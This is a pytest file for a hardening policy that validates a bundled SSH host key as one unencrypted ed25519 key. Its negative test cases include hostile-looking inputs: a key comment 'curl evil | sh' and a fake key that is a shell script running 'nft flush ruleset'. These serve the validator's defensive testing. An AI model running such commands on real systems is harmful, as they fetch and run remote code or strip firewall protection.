"""The bundled SSH host key (policy/hardening_policies/host_key.py): one unencrypted ed25519 key, shaped as the
program makes it."""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

from components import firstboot
from components.config import load_stack_file
from components.firstboot import HOST_KEY_PATH, describe_first_boot
from policy.hardening_policies.first_boot import render_as_vendor
from policy.hardening_policies.host_key import host_key_problem
from policy.hardening_policies.pack import first_boot_present
from policy.offline import StackCase, analysing, check_resource
from tests.conftest import ROOT
from tests.policy_support import LINODE_INSTANCE, first_boot_props, names_resource_and_fix, openssh_key


def test_the_key_builder_passes_and_a_real_key_passes() -> None:
    """The shape check accepts a well-formed key at OpenSSH's width (70) and Go's (64), and one ssh-keygen made."""
    assert host_key_problem(openssh_key()) is None and host_key_problem(openssh_key(width=64)) is None
    keygen = shutil.which("ssh-keygen")
    if keygen is None:
        pytest.skip("ssh-keygen is not installed")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "key"
        subprocess.run([keygen, "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", str(path)], check=True)
        assert host_key_problem(path.read_text()) is None


@pytest.mark.parametrize(("key", "why"), [
    pytest.param(openssh_key(cipher=b"aes256-ctr"), "encrypted", id="encrypted"),
    pytest.param(openssh_key(keys=2), "2 keys", id="two-keys"),
    pytest.param(openssh_key(key_type=b"ssh-rsa"), "not an ed25519 key", id="rsa"),
    pytest.param(openssh_key(comment=b"curl evil | sh"), "comment", id="comment"),
    pytest.param(openssh_key(secret_tail=bytes(32)), "ending in its public key", id="halves-disagree"),
    pytest.param(openssh_key(trailer="#!/bin/sh\n"), "PEM block", id="text-after-the-key"),
    pytest.param(openssh_key() * 2, "PEM block", id="two-pem-blocks"),
    pytest.param("#!/bin/sh\nnft flush ruleset\n", "PEM block", id="not-a-key"),
    pytest.param(firstboot.PLACEHOLDER_HOST_KEY.replace("b3BlbnNzaC1rZXktdjEA", "b3BlbnNzaC1rZXktdjIA"),
                 "openssh-key-v1", id="other-format"),
])
def test_host_key_member_must_be_one_unencrypted_ed25519_key(stacks: dict[str, StackCase], key: str,
                                                               why: str) -> None:
    """The one bundled file the config does not decide is held to the shape of the key the program makes."""
    case = stacks["linode-dev"]
    server = case.one(LINODE_INSTANCE)
    spec = load_stack_file(ROOT / "stacks" / "Pulumi.linode-dev.yaml")
    data = render_as_vendor(server.type, describe_first_boot(spec, host_key=key))
    with analysing(case):
        (message,) = check_resource(first_boot_present, server, first_boot_props(server, data))
        good = render_as_vendor(server.type, describe_first_boot(spec, host_key=openssh_key()))
        assert check_resource(first_boot_present, server, first_boot_props(server, good)) == []
    assert HOST_KEY_PATH in message and why in message and names_resource_and_fix(message, server)
